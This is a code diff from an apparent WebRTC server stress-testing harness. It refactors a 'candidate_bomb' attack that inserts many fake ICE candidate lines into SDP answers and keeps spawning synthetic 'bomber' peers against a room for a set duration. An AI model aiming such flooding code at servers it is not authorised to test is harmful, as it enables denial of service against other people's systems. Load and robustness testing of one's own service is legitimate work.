@@ -280,14 +280,11 @@ async def candidate_bomb(attack: Attack) -> None:
         f"a=candidate:b{i} 1 udp 2130706431 {address} {20000 + i} typ host\r\n" for i in range(count)
     )
 
-    class Bomber(SyntheticPeer):
-        async def send(self, message: dict[str, Any]) -> None:
-            if message.get("type") == "answer":
-                sdp = message["sdp"]
-                at = sdp.rindex("a=end-of-candidates")  # aiortc reads the last section (bundle)
-                message = {**message, "sdp": sdp[:at] + lines + sdp[at:]}
-                attack.sent.add(len(message["sdp"]))
-            await super().send(message)
+    def bomb(sdp: str) -> str:
+        at = sdp.rindex("a=end-of-candidates")  # aiortc reads the last section's (bundle)
+        bombed = sdp[:at] + lines + sdp[at:]
+        attack.sent.add(len(bombed))
+        return bombed
 
     loop = asyncio.get_running_loop()
     end = loop.time() + attack.duration
@@ -295,7 +292,7 @@ async def candidate_bomb(attack: Attack) -> None:
     index = 0
     while loop.time() < end:
         started = loop.time()
-        bomber = Bomber(attack.url, ROOM, address, name=f"bomber-{index}")
+        bomber = SyntheticPeer(attack.url, ROOM, address, name=f"bomber-{index}", rewrite_answer=bomb)
         index += 1
         try:
             await bomber.join(publish={}, within=10)
